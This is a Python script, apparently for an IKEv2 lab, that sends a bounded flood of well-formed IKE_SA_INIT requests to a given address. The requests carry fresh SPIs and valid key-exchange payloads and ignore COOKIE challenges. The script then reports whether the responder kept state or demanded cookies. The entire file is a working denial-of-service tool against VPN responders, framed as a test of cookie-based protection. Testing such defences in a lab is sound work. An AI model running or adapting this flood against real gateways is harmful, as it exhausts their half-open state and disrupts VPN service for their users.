#!/usr/bin/env python3
"""An IKE_SA_INIT flood, bounded in count and time, for the IKEv2 lab.

    ikeflood.py ADDR PORT COUNT SECONDS

Sends up to COUNT IKE_SA_INIT requests (each a fresh initiator SPI, a
well-formed SA for AES-256-GCM/PRF-SHA256/MODP-2048, a valid KE and a nonce)
spread over at most SECONDS, never answering a COOKIE, and prints one JSON
line: how many were sent and how the responder answered them (COOKIE only,
a full answer with KE = state kept, another notify, nothing)."""
import json
import os
import random
import select
import socket
import struct
import sys
import time

# RFC 3526 group 14 prime.
P14 = int(
    "FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD129024E088A67CC74020BBEA63B139B22514A08798E3404DD"
    "EF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245E485B576625E7EC6F44C42E9A637ED6B0BFF5CB6F406B7ED"
    "EE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3DC2007CB8A163BF0598DA48361C55D39A69163FA8FD24CF5F"
    "83655D23DCA3AD961C62F356208552BB9ED529077096966D670C354E4ABC9804F1746C08CA18217C32905E462E36CE3B"
    "E39E772C180E86039B2783A2EC07A28FB5C55DF06F4C52C9DE2BCBF6955817183995497CEA956AE515D2261898FA0510"
    "15728E5A8AACAA68FFFFFFFFFFFFFFFF", 16)

SA, KE, NONCE, NOTIFY = 33, 34, 40, 41
COOKIE = 16390


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def request(spi, ke_value):
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 256)) +
                  transform(False, 2, 5) + transform(True, 4, 14))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    ke = struct.pack("!HH", 14, 0) + ke_value.to_bytes(256, "big")
    body = payload(KE, proposal) + payload(NONCE, ke) + payload(0, os.urandom(32))
    header = spi + bytes(8) + struct.pack("!BBBBII", SA, 0x20, 34, 0x08, 0, 28 + len(body))
    return header + body


def classify(data):
    """cookie | full | notify:<type> | junk"""
    if len(data) < 28:
        return "junk"
    nxt, off = data[16], 28
    notify = None
    while nxt and off + 4 <= len(data):
        this = nxt
        nxt, _, plen = struct.unpack_from("!BBH", data, off)
        if plen < 4:
            return "junk"
        if this == KE:
            return "full"
        if this == NOTIFY and plen >= 8 and notify is None:
            notify = struct.unpack_from("!H", data, off + 6)[0]
        off += plen
    if notify == COOKIE:
        return "cookie"
    return "notify:%s" % notify if notify is not None else "junk"


def main():
    addr, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.connect((addr, port))
    s.setblocking(False)
    counts = {"cookie": 0, "full": 0, "other": 0}
    sent, t0 = 0, time.monotonic()
    gap = seconds / max(count, 1) * 0.8
    ke_value = random.randrange(2, P14 - 1)

    def drain(wait):
        while select.select([s], [], [], wait)[0]:
            try:
                kind = classify(s.recv(65535))
            except OSError:
                return
            counts[kind if kind in counts else "other"] += 1
            wait = 0

    while sent < count and time.monotonic() - t0 < seconds:
        try:
            s.send(request(os.urandom(8), ke_value))
            sent += 1
        except BlockingIOError:
            pass
        drain(0)
        time.sleep(gap)
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        drain(0.1)
    counts.update(sent=sent, seconds=round(time.monotonic() - t0, 2))
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
